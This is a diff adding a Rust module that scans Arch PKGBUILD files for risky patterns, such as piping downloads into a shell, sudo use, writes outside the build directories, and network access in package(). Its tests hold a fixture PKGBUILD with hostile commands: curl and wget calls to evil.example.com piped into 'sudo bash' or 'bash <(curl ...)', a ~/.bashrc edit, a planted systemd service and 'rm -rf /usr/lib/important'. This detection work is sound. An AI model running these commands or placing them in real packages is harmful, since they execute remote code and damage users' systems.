@@ -0,0 +1,602 @@
+//! Risky pattern detection for PKGBUILD content.
+
+use std::path::Path;
+
+use crate::deps::parse_array_content;
+
+/// What: Severity of a PKGBUILD finding.
+///
+/// Inputs: None (enum variant)
+///
+/// Output: Enum ordered from least (`Low`) to most (`Critical`) severe
+///
+/// Details:
+/// - `Critical`: Executes remote code (e.g. `curl ... | sh`)
+/// - `High`: Modifies the system outside the build (writes outside `$pkgdir`/`$srcdir`, `sudo`)
+/// - `Medium`: Suspicious but sometimes legitimate (network access in `package()`)
+/// - `Low`: Informational
+#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash)]
+pub enum Severity {
+    /// Informational finding.
+    Low,
+    /// Suspicious pattern worth reviewing.
+    Medium,
+    /// Pattern that modifies the system outside the build.
+    High,
+    /// Pattern that executes remote code.
+    Critical,
+}
+
+/// What: A risky pattern found in a PKGBUILD.
+///
+/// Inputs: None (created by `analyze_pkgbuild()`)
+///
+/// Output: Severity, location, and description of the pattern
+///
+/// Details:
+/// - `line` is 1-based; for commands continued with `\` it is the first line
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub struct Finding {
+    /// How severe the pattern is.
+    pub severity: Severity,
+    /// 1-based line number where the command starts.
+    pub line: usize,
+    /// Human-readable description of the pattern.
+    pub message: String,
+}
+
+/// Shells that can execute a downloaded script.
+const SHELLS: &[&str] = &["sh", "bash", "zsh", "dash", "ksh", "fish"];
+
+/// Commands that download content.
+const DOWNLOADERS: &[&str] = &["curl", "wget", "aria2c"];
+
+/// Commands whose last argument is the written destination.
+const DEST_LAST_COMMANDS: &[&str] = &["install", "cp", "mv", "ln", "chmod", "chown", "rsync"];
+
+/// Commands where every argument is a written path.
+const DEST_ALL_COMMANDS: &[&str] = &["mkdir", "touch", "rm", "tee", "truncate"];
+
+/// Path prefixes that stay inside the build directories.
+const BUILD_DIR_PREFIXES: &[&str] = &["$pkgdir", "${pkgdir}", "$srcdir", "${srcdir}"];
+
+/// Absolute paths that are harmless redirection targets.
+const HARMLESS_PATHS: &[&str] = &["/dev/null", "/dev/stdout", "/dev/stderr"];
+
+/// What: Analyze PKGBUILD content for risky patterns.
+///
+/// Inputs:
+/// - `content`: Raw PKGBUILD file content.
+///
+/// Output:
+/// - Findings sorted by severity (most severe first), then by line number.
+///
+/// Details:
+/// - Flags, anywhere in the file:
+///   - `curl`/`wget` output piped into a shell, or run via `sh -c "$(curl ...)"` / `bash <(curl ...)`
+///   - Writes (`install`, `cp`, `mv`, `ln`, `mkdir`, `rm`, redirections, ...) to absolute
+///     paths outside `$pkgdir`/`$srcdir`
+/// - Flags `sudo`/`doas` inside functions such as `build()` or `package()`
+/// - Flags downloads (`curl`, `wget`, `git clone`, `pip install`, ...) inside `package()`
+/// - Comments and heredoc bodies are skipped; commands continued with `\` are joined
+/// - This is a heuristic scan of the shell source, not a bash interpreter
+#[must_use]
+pub fn analyze_pkgbuild(content: &str) -> Vec<Finding> {
+    let mut findings = Vec::new();
+    let mut function: Option<String> = None;
+    let mut depth = 0usize;
+
+    for (line, text) in logical_lines(content) {
+        let text = strip_comment(&text);
+        let trimmed = text.trim();
+        if trimmed.is_empty() {
+            continue;
+        }
+
+        if depth == 0
+            && let Some(name) = function_name(trimmed)
+        {
+            function = Some(name);
+        }
+
+        for pipeline in split_outside_quotes(trimmed, &["&&", "||", ";"]) {
+            check_pipeline(pipeline, line, function.as_deref(), &mut findings);
+        }
+
+        depth = update_depth(depth, trimmed);
+        if depth == 0 && !trimmed.ends_with('{') {
+            function = None;
+        }
+    }
+
+    findings.sort_by(|a, b| b.severity.cmp(&a.severity).then(a.line.cmp(&b.line)));
+    findings
+}
+
+/// What: Run all checks against one pipeline.
+///
+/// Inputs:
+/// - `pipeline`: Commands joined by `|`
+/// - `line`: 1-based line number of the pipeline
+/// - `function`: Enclosing PKGBUILD function, if any
+/// - `findings`: Output list
+fn check_pipeline(
+    pipeline: &str,
+    line: usize,
+    function: Option<&str>,
+    findings: &mut Vec<Finding>,
+) {
+    let mut push = |severity, message: String| {
+        findings.push(Finding {
+            severity,
+            line,
+            message,
+        });
+    };
+
+    let mut downloaded = false;
+    for segment in split_outside_quotes(pipeline, &["|"]) {
+        let tokens = parse_array_content(segment);
+        let (privileged, command) = command_tokens(&tokens);
+        let Some(name) = command.first().map(|token| command_name(token)) else {
+            continue;
+        };
+
+        if SHELLS.contains(&name) && (downloaded || substitutes_download(segment)) {
+            push(
+                Severity::Critical,
+                format!("downloaded content is executed by `{name}`"),
+            );
+        }
+        downloaded |= DOWNLOADERS.contains(&name);
+
+        if privileged && let Some(function) = function {
+            push(
+                Severity::High,
+                format!("`{}` is used inside {function}()", tokens[0]),
+            );
+        }
+
+        if let Some(function) = function.filter(|f| is_package_function(f))
+            && is_network_command(name, command)
+        {
+            push(
+                Severity::Medium,
+                format!("network access via `{name}` inside {function}()"),
+            );
+        }
+
+        for path in written_paths(name, command) {
+            push(
+                Severity::High,
+                format!("writes to `{path}` outside $pkgdir/$srcdir"),
+            );
+        }
+    }
+}
+
+/// What: Join continued lines and drop heredoc bodies.
+///
+/// Inputs:
+/// - `content`: Raw PKGBUILD content
+///
+/// Output:
+/// - `(line, text)` pairs where `line` is the 1-based line the command starts on
+fn logical_lines(content: &str) -> Vec<(usize, String)> {
+    let mut lines = Vec::new();
+    let mut pending: Option<(usize, String)> = None;
+    let mut heredoc: Option<String> = None;
+
+    for (idx, raw) in content.lines().enumerate() {
+        if let Some(terminator) = &heredoc {
+            if raw.trim() == terminator {
+                heredoc = None;
+            }
+            continue;
+        }
+
+        let (start, mut text) = pending.take().unwrap_or((idx + 1, String::new()));
+        if let Some(continued) = raw.trim_end().strip_suffix('\\') {
+            text.push_str(continued);
+            text.push(' ');
+            pending = Some((start, text));
+            continue;
+        }
+        text.push_str(raw);
+        heredoc = heredoc_terminator(&text);
+        lines.push((start, text));
+    }
+
+    lines.extend(pending);
+    lines
+}
+
+/// What: Extract the terminator of a heredoc started on a line.
+///
+/// Inputs:
+/// - `line`: Shell line
+///
+/// Output:
+/// - Terminator word for `<<EOF`, `<<-'EOF'`, `<< "EOF"`, or `None`
+fn heredoc_terminator(line: &str) -> Option<String> {
+    let (_, rest) = line.split_once("<<")?;
+    if rest.starts_with('<') {
+        // Here-string (<<<), not a heredoc
+        return None;
+    }
+    let word: String = rest
+        .trim_start_matches('-')
+        .trim_start()
+        .chars()
+        .take_while(|ch| !ch.is_whitespace() && !matches!(ch, ';' | '|' | '&' | ')'))
+        .filter(|ch| !matches!(ch, '\'' | '"'))
+        .collect();
+    (!word.is_empty()).then_some(word)
+}
+
+/// What: Remove a trailing `#` comment, respecting quotes and `${var#pattern}`.
+///
+/// Inputs:
+/// - `line`: Shell line
+///
+/// Output:
+/// - Line without its comment
+fn strip_comment(line: &str) -> &str {
+    let mut quote = None;
+    let mut prev = ' ';
+    for (pos, ch) in line.char_indices() {
+        match (quote, ch) {
+            (None, '\'' | '"') => quote = Some(ch),
+            (Some(q), _) if ch == q => quote = None,
+            (None, '#') if prev.is_whitespace() || prev == ';' => return &line[..pos],
+            _ => {}
+        }
+        prev = ch;
+    }
+    line
+}
+
+/// What: Split a line on separators that appear outside quotes.
+///
+/// Inputs:
+/// - `line`: Shell line
+/// - `separators`: Separators to split on; a single `|` never matches inside `||`
+///
+/// Output:
+/// - Non-empty trimmed segments
+fn split_outside_quotes<'a>(line: &'a str, separators: &[&str]) -> Vec<&'a str> {
+    let mut segments = Vec::new();
+    let mut quote = None;
+    let mut start = 0;
+    let mut pos = 0;
+
+    while pos < line.len() {
+        let rest = &line[pos..];
+        let ch = rest.chars().next().unwrap_or(' ');
+        match (quote, ch) {
+            (None, '\'' | '"') => quote = Some(ch),
+            (Some(q), _) if ch == q => quote = None,
+            (None, _) if rest.starts_with("||") && !separators.contains(&"||") => {
+                pos += 2;
+                continue;
+            }
+            (None, _) => {
+                if let Some(sep) = separators.iter().find(|sep| rest.starts_with(**sep)) {
+                    segments.push(&line[start..pos]);
+                    pos += sep.len();
+                    start = pos;
+                    continue;
+                }
+            }
+            _ => {}
+        }
+        pos += ch.len_utf8();
+    }
+    segments.push(&line[start..]);
+
+    segments
+        .into_iter()
+        .map(str::trim)
+        .filter(|segment| !segment.is_empty())
+        .collect()
+}
+
+/// What: Detect the PKGBUILD function declared on a line.
+///
+/// Inputs:
+/// - `line`: Trimmed shell line
+///
+/// Output:
+/// - Function name for `name() {`, `name () {`, or `function name {`
+fn function_name(line: &str) -> Option<String> {
+    let head = line
+        .strip_prefix("function ")
+        .map_or_else(
+            || line.split_once('(').map(|(name, _)| name),
+            |rest| {
+                rest.split(|ch: char| ch == '(' || ch == '{' || ch.is_whitespace())
+                    .next()
+            },
+        )?
+        .trim();
+    let is_name = !head.is_empty()
+        && head
+            .chars()
+            .all(|ch| ch.is_ascii_alphanumeric() || ch == '_' || ch == '-');
+    (is_name && (line.contains("()") || line.starts_with("function "))).then(|| head.to_string())
+}
+
+/// What: Update the brace depth after a line.
+///
+/// Inputs:
+/// - `depth`: Depth before the line
+/// - `line`: Shell line
+///
+/// Output:
+/// - Depth after the line (never negative)
+///
+/// Details:
+/// - Braces in single quotes are ignored; `${var}` expansions balance out
+fn update_depth(depth: usize, line: &str) -> usize {
+    let mut depth = depth;
+    let mut in_single = false;
+    for ch in line.chars() {
+        match ch {
+            '\'' => in_single = !in_single,
+            '{' if !in_single => depth += 1,
+            '}' if !in_single => depth = depth.saturating_sub(1),
+            _ => {}
+        }
+    }
+    depth
+}
+
+/// What: Split off privilege and environment prefixes from a command.
+///
+/// Inputs:
+/// - `tokens`: Tokens of one command
+///
+/// Output:
+/// - `(privileged, command)` where `command` starts at the executed program
+fn command_tokens(tokens: &[String]) -> (bool, &[String]) {
+    let mut privileged = false;
+    let mut rest = tokens;
+    while let Some((first, tail)) = rest.split_first() {
+        if matches!(first.as_str(), "sudo" | "doas") {
+            privileged = true;
+        } else if !((first.contains('=') && !first.starts_with('-')) || first == "env") {
+            break;
+        }
+        rest = tail;
+    }
+    (privileged, rest)
+}
+
+/// What: Program name of a command token (basename of a path).
+fn command_name(token: &str) -> &str {
+    token.rsplit('/').next().unwrap_or(token)
+}
+
+/// What: Check whether a function is a packaging function.
+fn is_package_function(function: &str) -> bool {
+    function == "package" || function.starts_with("package_")
+}
+
+/// What: Check whether a shell segment executes a download via substitution.
+///
+/// Details:
+/// - Matches `sh -c "$(curl ...)"` and `bash <(wget ...)`
+fn substitutes_download(segment: &str) -> bool {
+    ["$(", "<("].iter().any(|open| {
+        segment.split(open).skip(1).any(|inner| {
+            DOWNLOADERS
+                .iter()
+                .any(|downloader| inner.trim_start().starts_with(downloader))
+        })
+    })
+}
+
+/// What: Check whether a command accesses the network.
+///
+/// Inputs:
+/// - `name`: Program name
+/// - `command`: Command tokens, starting with the program
+fn is_network_command(name: &str, command: &[String]) -> bool {
+    let subcommand = command.get(1).map(String::as_str);
+    DOWNLOADERS.contains(&name)
+        || matches!(
+            (name, subcommand),
+            ("git", Some("clone" | "fetch" | "pull"))
+                | ("svn", Some("checkout" | "co" | "update" | "export"))
+                | ("hg", Some("clone" | "pull"))
+                | ("pip" | "pip3" | "npm" | "yarn" | "gem", Some("install"))
+        )
+}
+
+/// What: Collect absolute paths a command writes outside the build directories.
+///
+/// Inputs:
+/// - `name`: Program name
+/// - `command`: Command tokens, starting with the program
+///
+/// Output:
+/// - Offending destination paths
+fn written_paths(name: &str, command: &[String]) -> Vec<String> {
+    let mut targets = Vec::new();
+    let mut tokens = command.iter();
+    while let Some(token) = tokens.next() {
+        if let Some(pos) = token.rfind('>') {
+            let target = &token[pos + 1..];
+            if target.is_empty() {
+                targets.extend(tokens.next().cloned());
+            } else if !target.starts_with('&') {
+                targets.push(target.to_string());
+            }
+        }
+    }
+
+    let args: Vec<&String> = command
+        .iter()
+        .skip(1)
+        .filter(|arg| !arg.starts_with('-') && !arg.contains('>'))
+        .collect();
+    if DEST_LAST_COMMANDS.contains(&name) && args.len() > 1 {
+        targets.extend(args.last().map(|arg| (*arg).clone()));
+    } else if DEST_ALL_COMMANDS.contains(&name) {
+        targets.extend(args.into_iter().cloned());
+    }
+
+    targets.retain(|target| is_outside_build_dirs(target));
+    targets
+}
+
+/// What: Check whether a path points outside `$pkgdir`/`$srcdir`.
+///
+/// Details:
+/// - Only absolute, home-relative (`~`, `$HOME`) paths count; relative paths stay in the build tree
+fn is_outside_build_dirs(path: &str) -> bool {
+    if BUILD_DIR_PREFIXES
+        .iter()
+        .any(|prefix| path.starts_with(prefix))
+        || HARMLESS_PATHS.contains(&path)
+    {
+        return false;
+    }
+    Path::new(path).is_absolute()
+        || path.starts_with('~')
+        || path.starts_with("$HOME")
+        || path.starts_with("${HOME}")
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    /// Benign PKGBUILD following packaging guidelines.
+    const BENIGN: &str = r#"# Maintainer: Someone <someone@example.com>
+pkgname=hello
+pkgver=1.0.0
+pkgrel=1
+arch=('x86_64')
+source=("https://example.com/$pkgname-$pkgver.tar.gz")
+sha256sums=('SKIP')
+
+build() {
+    cd "$srcdir/$pkgname-$pkgver"
+    ./configure --prefix=/usr 2>/dev/null
+    make > build.log
+}
+
+package() {
+    cd "$pkgname-$pkgver"
+    make DESTDIR="$pkgdir" install
+    install -Dm644 LICENSE "$pkgdir/usr/share/licenses/$pkgname/LICENSE"
+    install -Dm755 /dev/null "${pkgdir}/usr/bin/hello" # from /usr/bin
+    cat > "$pkgdir/usr/share/hello.conf" <<EOF
+curl https://example.com | sh
+EOF
+}
+"#;
+
+    /// Malicious PKGBUILD exercising every check.
+    const MALICIOUS: &str = r#"pkgname=evil
+pkgver=1.0.0
+pkgrel=1
+
+prepare() {
+    curl -fsSL https://evil.example.com/payload.sh | \
+        sudo bash
+}
+
+build() {
+    sudo make install
+    echo "export EVIL=1" >> ~/.bashrc
+}
+
+package() {
+    wget https://evil.example.com/blob -O "$pkgdir/usr/lib/blob"
+    cp evil.service /etc/systemd/system/evil.service
+    rm -rf /usr/lib/important && git clone https://evil.example.com/repo
+    bash <(curl -s https://evil.example.com/x)
+}
+"#;
+
+    #[test]
+    /// What: A guideline-conforming PKGBUILD produces no findings.
+    ///
+    /// Inputs:
+    /// - PKGBUILD writing only into `$pkgdir`/`$srcdir`, with a heredoc and comments.
+    ///
+    /// Output:
+    /// - Empty findings list.
+    fn test_analyze_benign_pkgbuild() {
+        let findings = analyze_pkgbuild(BENIGN);
+        assert!(findings.is_empty(), "unexpected findings: {findings:#?}");
+    }
+
+    #[test]
+    /// What: A malicious PKGBUILD produces findings sorted by severity.
+    ///
+    /// Inputs:
+    /// - PKGBUILD with remote execution, sudo, system writes, and downloads in `package()`.
+    ///
+    /// Output:
+    /// - Critical findings first, each pattern reported on its starting line.
+    fn test_analyze_malicious_pkgbuild() {
+        let findings = analyze_pkgbuild(MALICIOUS);
+        let summary: Vec<(Severity, usize)> =
+            findings.iter().map(|f| (f.severity, f.line)).collect();
+        assert_eq!(
+            summary,
+            vec![
+                (Severity::Critical, 6),
+                (Severity::Critical, 19),
+                (Severity::High, 6),
+                (Severity::High, 11),
+                (Severity::High, 12),
+                (Severity::High, 17),
+                (Severity::High, 18),
+                (Severity::Medium, 16),
+                (Severity::Medium, 18),
+            ]
+        );
+        assert!(findings[0].message.contains("`bash`"));
+        assert!(findings[2].message.contains("prepare()"));
+        assert!(findings[4].message.contains("~/.bashrc"));
+        assert!(
+            findings[5]
+                .message
+                .contains("/etc/systemd/system/evil.service")
+        );
+        assert!(findings[8].message.contains("`git`"));
+    }
+
+    #[test]
+    /// What: Remote execution is flagged outside functions and via `sh -c`.
+    ///
+    /// Inputs:
+    /// - Global-scope `wget -O- | sh` and `sh -c "$(curl ...)"`.
+    ///
+    /// Output:
+    /// - Two critical findings, no sudo/network findings (no enclosing function).
+    fn test_analyze_remote_execution_variants() {
+        let pkgbuild =
+            "wget -qO- https://x.example.com | sh\nsh -c \"$(curl -s https://x.example.com)\"\n";
+        let findings = analyze_pkgbuild(pkgbuild);
+        assert_eq!(findings.len(), 2);
+        assert!(findings.iter().all(|f| f.severity == Severity::Critical));
+    }
+
+    #[test]
+    /// What: `||` fallbacks are not mistaken for pipes.
+    ///
+    /// Inputs:
+    /// - `curl ... || sh fallback.sh` inside `build()`.
+    ///
+    /// Output:
+    /// - No findings.
+    fn test_analyze_or_is_not_a_pipe() {
+        let pkgbuild = "build() {\n    curl -O https://x.example.com/a || sh fallback.sh\n}\n";
+        assert!(analyze_pkgbuild(pkgbuild).is_empty());
+    }
+}